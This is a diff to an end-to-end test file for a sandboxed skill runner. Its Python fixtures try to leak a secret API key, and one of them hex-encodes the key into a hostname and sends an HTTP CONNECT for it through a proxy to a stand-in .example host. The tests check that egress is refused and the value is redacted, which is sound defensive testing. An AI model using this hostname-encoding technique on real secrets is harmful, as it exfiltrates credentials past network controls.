@@ -17,7 +17,7 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { execFileSync } from 'node:child_process';
 import { expectedLevel, hasBwrap, isRoot } from '../levels.js';
 import { ERAS, expectNoLeftovers, serve, tempDir, type Served } from './harness.js';
-import { askToken, audit } from './run-skills.js';
+import { CONNECT_PY, askToken, audit } from './run-skills.js';
 
 /** The value: characters every URL encoder treats differently, so each spelling is its own. */
 const KEY = 'sk_e2e/R3dact+me=42 now!';
@@ -60,21 +60,13 @@ open("out/" + b.hex() + ".txt", "w").write("named after the key\\n")
 const CAP_PY = `import os, sys
 sys.stdout.write("x" * (${CAP} - 10) + os.environ["LEAKY_API_KEY"] + "\\n")
 `;
-const CONNECT_PY = `import os, socket, urllib.parse
-proxy = urllib.parse.urlsplit(os.environ["HTTPS_PROXY"])
-target = os.environ["LEAKY_API_KEY"].encode().hex() + ".example:443"
-s = socket.create_connection((proxy.hostname, proxy.port), timeout=20)
-s.sendall(("CONNECT %s HTTP/1.1\\r\\nHost: %s\\r\\n\\r\\n" % (target, target)).encode())
-answer = b""
-while b"\\r\\n\\r\\n" not in answer:
-    chunk = s.recv(4096)
-    if not chunk: break
-    answer += chunk
-print(answer.split(b"\\r\\n", 1)[0].decode())
+/** Asks the run's proxy for a destination named after the value: its refusal must name it redacted. */
+const LEAK_CONNECT_PY = `${CONNECT_PY}
+print(connect(os.environ["LEAKY_API_KEY"].encode().hex() + ".example:443"))
 `;
 
 function writeSkill(root: string): void {
-  const scripts = { 'leak.py': LEAK_PY, 'cap.py': CAP_PY, 'connect.py': CONNECT_PY };
+  const scripts = { 'leak.py': LEAK_PY, 'cap.py': CAP_PY, 'connect.py': LEAK_CONNECT_PY };
   const rows = Object.keys(scripts).map((s) => `    - script: ${s}\n      interpreter: python3\n      env: [LEAKY_API_KEY, LEAKY_PLAIN]\n      timeout: 60\n`).join('');
   const md = `---\nname: leaky\ndescription: Prints its API key every way it can.\nmcp-host:\n  version: 1\n  run:\n${rows}  env:\n    - name: LEAKY_API_KEY\n      secret: true\n    - name: LEAKY_PLAIN\n  egress: [allowed.example]\n---\nLeaks.\n`;
   mkdirSync(join(root, 'leaky'), { recursive: true, mode: 0o755 });
